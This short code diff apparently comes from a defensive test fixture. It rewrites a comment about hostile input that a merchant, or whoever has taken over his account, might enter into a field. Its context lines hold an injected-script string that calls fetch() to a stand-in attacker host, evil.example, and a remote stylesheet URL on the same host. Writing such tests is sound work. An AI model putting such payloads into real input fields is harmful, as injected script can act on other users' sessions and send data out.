@@ -1,4 +1,7 @@
-/** What a merchant, or whoever has got hold of his account, might put into a field (invariant 32). */
+/**
+ * What a merchant, or whoever has got hold of his account, might put into a field
+ * (docs/contract/invariants.md#32).
+ */
 const RUN = "window.__ran=1;fetch('https://evil.example/ran')";
 const LOAD = 'https://evil.example/css';
 
